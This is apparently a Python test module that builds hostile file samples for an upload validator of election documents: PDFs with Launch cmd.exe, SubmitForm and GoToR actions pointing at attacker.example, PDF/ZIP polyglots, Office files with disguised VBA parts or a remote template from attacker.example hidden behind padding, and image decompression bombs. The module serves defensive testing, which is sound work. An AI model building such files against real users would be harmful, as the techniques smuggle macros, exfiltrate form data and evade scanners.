"""More of the hostile corpus (tests/inventory/hostile.py includes these): what hides inside a type we
accept. PDF actions wherever they sit (and the web links that are fine), a PDF that is also a ZIP or
carries another file after its end, macros renamed but still wired in by relationship or content type,
and images small on disk that would take hundreds of megabytes to decode.
"""

import io
import random
import zipfile

from tests.inventory.factories import pdf_bytes
from tests.inventory.hostile import (
    CONTENT_TYPES,
    DOCUMENT,
    HTML,
    ROOT_RELS,
    K,
    Sample,
    image_bytes,
    pdf_with,
    png_bomb,
    xlsx_bytes,
    zip_bytes,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500  # the start of a VBA project (an OLE file)
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
VBA_TYPE = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
TEMPLATE_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


# --- PDFs -----------------------------------------------------------------------------------------


def page_link(action: bytes) -> bytes:
    """A one-page PDF whose page has one link annotation running `action` when clicked."""
    return pdf_with(
        page_extra=b"/Annots [5 0 R]",
        more=(b"<< /Type /Annot /Subtype /Link /Rect [72 72 300 90] /Border [0 0 0] /A " + action + b" >>",),
    )


def pdf_stream(content: bytes) -> bytes:
    return b"<< /Length " + str(len(content)).encode() + b" >>\nstream\n" + content + b"\nendstream"


def pdf_actions() -> tuple[list[Sample], list[Sample]]:
    web = (b"<< /Type /Annot /Subtype /Link /Rect [72 72 300 90] /A << /S /URI /URI (mailto:hukum@kpu.go.id) >> >>",)
    return [
        Sample(
            "pdf-gotor-open-action",
            "gotor.pdf",
            pdf_with(b"/OpenAction << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\surat.pdf) /D [0 /Fit] >>"),
            reason=("/gotor", "another file"),
        ),
        Sample(
            "pdf-gotor-page-aa",
            "gotor_page.pdf",
            pdf_with(page_extra=b"/AA << /O << /S /GoToR /F (lampiran.pdf) /D [0 /Fit] >> >>"),
            reason=("/gotor",),
        ),
        Sample(
            "pdf-submitform-field",
            "formulir.pdf",
            pdf_with(
                b"/AcroForm << /Fields [5 0 R] >>",
                page_extra=b"/Annots [5 0 R]",
                more=(
                    b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (kirim) /Rect [72 72 200 90] /P 3 0 R "
                    b"/A << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >> >>",
                ),
            ),
            reason=("/submitform",),
        ),
        Sample(
            "pdf-importdata-catalog-aa",
            "import.pdf",
            pdf_with(b"/AA << /WC << /S /ImportData /F (data.fdf) >> >>"),
            reason=("/importdata",),
        ),
        Sample(
            "pdf-gotoe-outline",
            "gotoe.pdf",
            pdf_with(
                b"/Outlines 5 0 R",
                more=(
                    b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
                    b"<< /Title (Lampiran) /Parent 5 0 R /A << /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >> >>",
                ),
            ),
            reason=("/gotoe",),
        ),
        Sample(
            "pdf-launch-after-goto",
            "next.pdf",
            pdf_with(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [ << /S /Launch /F (cmd.exe) >> ] >>"),
            reason=("/launch",),
        ),
        # Referred to by nothing: one reader's repair of a broken file may still find it.
        Sample(
            "pdf-launch-unreferenced",
            "yatim.pdf",
            pdf_with(more=(b"<< /S /Launch /F (cmd.exe) >>",)),
            reason=("/launch",),
        ),
        Sample(
            "pdf-uri-open-action",
            "beacon.pdf",
            pdf_with(b"/OpenAction << /S /URI /URI (https://tracker.example/open?id=7) >>"),
            reason=("by itself", "tracker.example"),
        ),
        Sample(
            "pdf-uri-page-aa",
            "beacon_page.pdf",
            pdf_with(page_extra=b"/AA << /O << /S /URI /URI (https://tracker.example/page) >> >>"),
            reason=("by itself",),
        ),
        Sample(
            "pdf-uri-next-of-open-action",
            "beacon_next.pdf",
            pdf_with(
                b"/OpenAction 5 0 R",
                more=(b"<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>", b"<< /S /URI /URI (https://t.example/) >>"),
            ),
            reason=("by itself",),
        ),
        Sample(
            "pdf-uri-file-link",
            "link_file.pdf",
            page_link(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"),
            reason=("not a web", "file:///c:"),
        ),
        Sample(
            "pdf-uri-unc-link",
            "link_unc.pdf",
            page_link(b"<< /S /URI /URI (\\\\\\\\attacker.example\\\\share\\\\x) >>"),
            reason=("not a web", "attacker.example"),
        ),
        Sample(
            "pdf-uri-javascript-link",
            "link_js.pdf",
            page_link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>"),
            reason=("not a web", "javascript:"),
        ),
    ], [
        Sample(
            "pdf-web-links",
            "surat_kpu.pdf",
            pdf_with(
                page_extra=b"/Annots [5 0 R 6 0 R]",
                more=(
                    b"<< /Type /Annot /Subtype /Link /Rect [72 72 300 90] "
                    b"/A << /S /URI /URI (https://www.kpu.go.id/) >> >>",
                    *web,
                ),
            ),
            kind=K.BAWASLU_LETTER,
            mime_type="application/pdf",
        ),
    ]


def pdf_polyglots() -> tuple[list[Sample], list[Sample]]:
    pdf = pdf_bytes("C.Hasil TPS 001")
    archive = zip_bytes([("run.exe", b"MZ" + b"\x00" * 200), ("baca.txt", "buka run.exe")])
    entries_only = archive[: archive.find(b"PK\x01\x02")]  # local headers, no directory, no end record
    refused = [
        Sample("pdf-zip-appended", "c_hasil_zip.pdf", pdf + archive, reason=("zip",)),
        # The archive inside a stream, its end record in the comment-reach of the file's end, the PDF's
        # own end after it: both a good PDF and a good ZIP.
        Sample("pdf-zip-in-stream", "c_hasil_poly.pdf", pdf_with(more=(pdf_stream(archive),)), reason=("zip",)),
        Sample(
            "pdf-zip-entries-only",
            "c_hasil_entri.pdf",
            pdf_with(more=(pdf_stream(entries_only), pdf_stream(random.Random(4).randbytes(80_000)))),
            reason=("zip",),
        ),
        Sample("pdf-html-appended", "c_hasil_html.pdf", pdf + HTML, reason=("after the end",)),
        Sample(
            "pdf-no-end",
            "c_hasil_tanpa_akhir.pdf",
            pdf[: pdf.rfind(b"%%EOF")] + random.Random(6).randbytes(70_000),
            reason=("does not end",),
        ),
    ]
    accepted = [
        # What scanners and mail programs leave after %%EOF: line ends, NUL padding, a DOS end-of-file.
        Sample(
            "pdf-tail-whitespace",
            "c_hasil_ekor.pdf",
            pdf_bytes("C.Hasil TPS 002") + b"\r\n\x00\x00\x00  \n\x1a",
            kind=K.C_HASIL,
            mime_type="application/pdf",
        ),
    ]
    return refused, accepted


# --- office documents -----------------------------------------------------------------------------


def rels(*relationships: str, prefix: str = "") -> str:
    tag = f"{prefix}:" if prefix else ""
    ns = f"xmlns:{prefix}" if prefix else "xmlns"
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><{tag}Relationships {ns}="{RELS_NS}">'
        + "".join(relationships)
        + f"</{tag}Relationships>"
    )


def relationship(rel_type: str, target: str, *, external: bool = False, prefix: str = "") -> str:
    tag = f"{prefix}:" if prefix else ""
    mode = ' TargetMode="External"' if external else ""
    return f'<{tag}Relationship Id="rId9" Type="{rel_type}" Target="{target}"{mode}/>'


def docx_parts(*extra: tuple[str, bytes | str], content_types: str = CONTENT_TYPES) -> bytes:
    """A DOCX in Word's entry order, with its own content types."""
    return zip_bytes(
        [("[Content_Types].xml", content_types), ("_rels/.rels", ROOT_RELS), ("word/document.xml", DOCUMENT), *extra]
    )


def with_override(part: str, content_type: str) -> str:
    return CONTENT_TYPES.replace("</Types>", f'<Override PartName="{part}" ContentType="{content_type}"/></Types>')


def rezip(data: bytes, changes: dict[str, bytes | str]) -> bytes:
    """The same archive, entries in the same order, with `changes` replacing or adding entries."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        entries = [(name, changes.get(name, archive.read(name))) for name in archive.namelist()]
    return zip_bytes(entries + [(n, c) for n, c in changes.items() if n not in dict(entries)])


def office_macros() -> list[Sample]:
    xlsx = xlsx_bytes()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        workbook_rels = archive.read("xl/_rels/workbook.xml.rels").decode()
    main_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    padding = " " * (1024 * 1024 + 10)  # past the first megabyte, where only a part of the file used to be read
    doc_rels = "word/_rels/document.xml.rels"
    return [
        Sample(
            "docx-vba-renamed",
            "ba_makro.docx",
            docx_parts(("word/media/image9.png", OLE), (doc_rels, rels(relationship(VBA_TYPE, "media/image9.png")))),
            kind=K.BERITA_ACARA,
            reason=("macros", "vbaproject", "image9.png"),
        ),
        Sample(
            "docx-vba-content-type",
            "ba_makro2.docx",
            docx_parts(
                ("word/custom.dat", OLE),
                content_types=with_override("/word/custom.dat", "application/vnd.ms-office.vbaProject"),
            ),
            kind=K.BERITA_ACARA,
            reason=("macros", "application/vnd.ms-office.vbaproject"),
        ),
        Sample(
            "docx-macro-enabled-main",
            "ba_makro3.docx",
            docx_parts(
                content_types=CONTENT_TYPES.replace(main_type, "application/vnd.ms-word.document.macroEnabled.main+xml")
            ),
            kind=K.BERITA_ACARA,
            reason=("macros", "macroenabled"),
        ),
        Sample(
            "docx-vba-prefixed-escaped",
            "ba_makro4.docx",
            docx_parts(
                ("word/x.bin", OLE),
                (doc_rels, rels(relationship(VBA_TYPE.replace("vbaP", "vba&#80;"), "x.bin", prefix="r"), prefix="r")),
            ),
            kind=K.BERITA_ACARA,
            reason=("macros", "vbaproject"),
        ),
        Sample(
            "xlsx-vba-renamed",
            "rekap_makro.xlsx",
            rezip(
                xlsx,
                {
                    "xl/printerSettings1.bin": OLE,
                    "xl/_rels/workbook.xml.rels": workbook_rels.replace(
                        "</Relationships>", relationship(VBA_TYPE, "printerSettings1.bin") + "</Relationships>"
                    ),
                },
            ),
            kind=K.BERITA_ACARA,
            reason=("macros", "vbaproject"),
        ),
        Sample(
            "docx-remote-template-late",
            "ba_templat.docx",
            docx_parts(
                (
                    "word/_rels/settings.xml.rels",
                    rels(padding, relationship(TEMPLATE_TYPE, "http://attacker.example/t.dotm", external=True)),
                )
            ),
            kind=K.BERITA_ACARA,
            reason=("internet",),
        ),
        Sample(
            "docx-remote-template-escaped",
            "ba_templat2.docx",
            docx_parts(
                (
                    "word/_rels/settings.xml.rels",
                    rels(
                        relationship(
                            TEMPLATE_TYPE.replace("Template", "&#84;emplate"),
                            "http://attacker.example/t.dotm",
                            external=True,
                            prefix="p",
                        ),
                        prefix="p",
                    ),
                )
            ),
            kind=K.BERITA_ACARA,
            reason=("internet",),
        ),
    ]


# --- images ---------------------------------------------------------------------------------------


def progressive_jpeg_claiming(width: int, height: int) -> bytes:
    """A tiny progressive JPEG whose header says `width` x `height`: decoding it would take libjpeg's
    whole-image coefficient buffers (two bytes per sample) before finding the data short."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(out, "JPEG", progressive=True, subsampling=0)
    data = bytearray(out.getvalue())
    sof = data.find(b"\xff\xc2")
    data[sof + 5 : sof + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(data)


def images() -> list[Sample]:
    heic = image_bytes("HEIF", size=(96, 64), seed=9)
    return [
        # Under the pixel ceiling (99,980,001 pixels), 400 MB once decoded, 390 KB on disk.
        Sample(
            "png-rgba-9999",
            "scan_besar.png",
            png_bomb(9999, 9999, depth=8, color_type=6),
            kind=K.PHOTO,
            reason=("memory", "9999"),
        ),
        Sample(
            "jpeg-progressive-huge",
            "foto_progresif.jpg",
            progressive_jpeg_claiming(9999, 9999),
            kind=K.PHOTO,
            reason=("memory",),
        ),
        Sample("heic-truncated", "IMG_0003.HEIC", heic[: len(heic) * 6 // 10], kind=K.PHOTO, reason=("damaged",)),
    ]


def refused() -> list[Sample]:
    actions, _ok = pdf_actions()
    polyglots, _ok = pdf_polyglots()
    return [*actions, *polyglots, *office_macros(), *images()]


def accepted() -> list[Sample]:
    _bad, links = pdf_actions()
    _bad, tails = pdf_polyglots()
    return [*links, *tails]
